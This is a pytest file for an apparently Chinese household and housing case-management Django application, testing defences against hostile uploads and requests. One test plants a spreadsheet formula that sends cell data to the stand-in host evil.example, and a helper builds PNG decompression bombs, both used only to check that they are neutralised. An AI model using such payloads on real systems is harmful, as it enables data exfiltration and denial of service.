"""Hostile files and requests (issue 15, ADR 0024): each probe that got through, replayed with
the same kind of input made in the test, and what the user or the attacker now meets. The
spreadsheet and list-import probes are in test_hostile_input_lists.py, the token and password
probes in test_hostile_input_auth.py."""

from __future__ import annotations

import csv
import hashlib
import io
import struct
import tracemalloc
import zlib
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from PIL import Image
from rest_framework.test import APIClient

from anju.accounts.choices import Role
from anju.accounts.models import UserRole
from anju.archives import services as archive_services
from anju.archives.models import ArchiveDocument
from anju.audit.models import AuditAction, AuditEvent
from anju.cases.choices import Stage
from anju.households.services import house_create, household_create
from anju.inspections.photos import process_photo
from anju.inspections.tests.conftest import make_id
from anju.jobs.models import Job, JobStatus
from anju.ledgers import services as ledger_services
from tests.scenarios.conftest import walk

pytestmark = pytest.mark.django_db


def png_header_only(width: int, height: int) -> bytes:
    """A PNG whose header declares ``width`` × ``height`` grey pixels, with one tiny IDAT:
    140 KB-class bombs are this, plus the compressed zeros."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")
    )


def jpeg(size: tuple[int, int], name: str = "scan.jpg") -> SimpleUploadedFile:
    out = io.BytesIO()
    Image.new("RGB", size, (120, 110, 100)).save(out, "JPEG", quality=70)
    return SimpleUploadedFile(name, out.getvalue(), content_type="image/jpeg")


@pytest.fixture
def filed_case(case: Any, officers: dict[str, Any]) -> Any:
    walk(case, officers, Stage.FILED)
    case.refresh_from_db()
    return case


def test_a_144_megapixel_png_is_refused_before_it_is_decoded(filed_case, officers) -> None:
    bomb = SimpleUploadedFile("扫描件.png", png_header_only(12000, 12000), content_type="image/png")
    tracemalloc.start()
    with pytest.raises(ValidationError) as refused:
        archive_services.document_upload(
            acting_user=officers["township"], case=filed_case, code="id_register", upload=bomb
        )
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert "像素过大（12000×12000" in refused.value.messages[0] and "50 百万像素" in refused.value.messages[0]
    assert peak < 20 * 1024 * 1024  # nothing near the 144 MB the pixels would take
    assert not ArchiveDocument.objects.filter(case=filed_case).exists()


def test_an_oversized_scan_is_stored_scaled_down_keeping_the_original_hash(filed_case, officers) -> None:
    upload = jpeg((4800, 600), "户口本.jpg")
    original = upload.read()
    upload.seek(0)
    document = archive_services.document_upload(
        acting_user=officers["township"], case=filed_case, code="id_register", upload=upload
    )
    with Image.open(document.file) as stored:
        assert stored.size == (4000, 500)
    assert document.sha256 == hashlib.sha256(original).hexdigest()
    again = SimpleUploadedFile("户口本（重拍）.jpg", original, content_type="image/jpeg")
    with pytest.raises(ValidationError, match="同一文件已归档"):
        archive_services.document_upload(
            acting_user=officers["township"], case=filed_case, code="id_register", upload=again
        )


def test_an_inspection_photo_of_absurd_size_is_refused_with_the_reason() -> None:
    bomb = SimpleUploadedFile("现场.png", png_header_only(20000, 9000), content_type="image/png")
    with pytest.raises(ValidationError, match="像素过大"):
        process_photo(bomb)


def test_a_csv_export_never_hands_excel_a_formula(client, tl_clerk, regions) -> None:
    planted = '=HYPERLINK("http://evil.example/?"&A1,"点")'
    household_create(
        acting_user=tl_clerk, region=regions["140405102201"], head_name=planted, head_id_number=make_id(81)
    )
    household_create(
        acting_user=tl_clerk, region=regions["140405102201"], head_name="@SUM(1+1)", head_id_number=make_id(82)
    )
    client.force_login(tl_clerk)
    response = client.get(reverse("households:household_export") + "?format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = {row[0] for row in rows[1:]}
    assert "'" + planted in names and "'@SUM(1+1)" in names
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_a_ledger_made_as_a_job_is_its_starters_alone_checked_again_and_audited(
    client, tl_county, tl_township, make_user, covered_home, monkeypatch, django_capture_on_commit_callbacks
) -> None:
    monkeypatch.setitem(ledger_services.DIRECT_LIMIT, "xlsx", 0)
    client.force_login(tl_county)
    with django_capture_on_commit_callbacks(execute=True):
        client.get(reverse("ledgers:download", args=["key_groups", "xlsx"]))
    job = Job.objects.get(kind="ledgers.export")
    assert job.status == JobStatus.SUCCEEDED and job.result["file_check"] == "ledgers.full_ids"
    colleague = make_user("tl_city_reader", "140400000000", Role.CITY_OFFICER)
    for other in (tl_township, colleague):
        api = APIClient()
        api.force_authenticate(other)
        assert api.get("/api/jobs/").json()["count"] == 0
        peer = Client()
        peer.force_login(other)
        assert peer.get(reverse("jobs:job_download", args=[job.pk])).status_code == 404
    download = client.get(reverse("jobs:job_download", args=[job.pk]))
    assert download.status_code == 200
    export = AuditEvent.objects.filter(action=AuditAction.EXPORT, object_type="jobs.ledgers.export").get()
    assert export.actor == tl_county and str(job.pk) in str(export.changes)
    # The county officer is moved to a role that sees masked numbers: the old file is refused.
    UserRole.objects.filter(user=tl_county).update(role=Role.CITY_OFFICER)
    refused = client.get(reverse("jobs:job_download", args=[job.pk]))
    assert refused.status_code == 403


def test_creating_a_house_out_of_region_answers_like_a_household_that_does_not_exist(
    tl_clerk, ps_admin, regions
) -> None:
    village = regions["140405102201"]
    with_house = household_create(acting_user=tl_clerk, region=village, head_name="甲", head_id_number=make_id(91))
    house_create(acting_user=tl_clerk, household=with_house, structure="brick_wood")
    without_house = household_create(acting_user=tl_clerk, region=village, head_name="乙", head_id_number=make_id(92))
    api = APIClient()
    api.force_authenticate(ps_admin)
    answers = [
        api.post("/api/houses/", {"household": pk, "structure": "wood"}, format="json")
        for pk in (with_house.pk, without_house.pk, 999_999, "abc", 10**30)
    ]
    assert {a.status_code for a in answers} == {404}
    assert len({a.content for a in answers}) == 1


def test_a_nul_byte_or_an_impossible_number_in_a_request_is_a_400_in_chinese(client, tl_admin) -> None:
    client.force_login(tl_admin)
    for url in ("/api/tasks/?county=%00", "/households/?q=%00"):
        response = client.get(url)
        assert response.status_code == 400 and "空字符" in response.content.decode()
    for year in ("0", "99999", "二〇二六"):
        response = client.get(f"/api/timeliness/?year={year}")
        assert response.status_code == 400 and "年度应为 2009–2100 的整数" in str(response.json())
    too_big = client.get("/api/acceptances/?case=99999999999999999999")
    assert too_big.status_code == 400 and "数值超出范围" in str(too_big.json())
    assert client.get("/api/acceptances/99999999999999999999/").status_code == 404
    body = client.post(
        "/api/rectification-orders/",
        {"findings": [10**30], "requirements": "x", "due_on": "2030-01-01"},
        content_type="application/json",
    )
    assert body.status_code in (400, 404) and body.status_code != 500
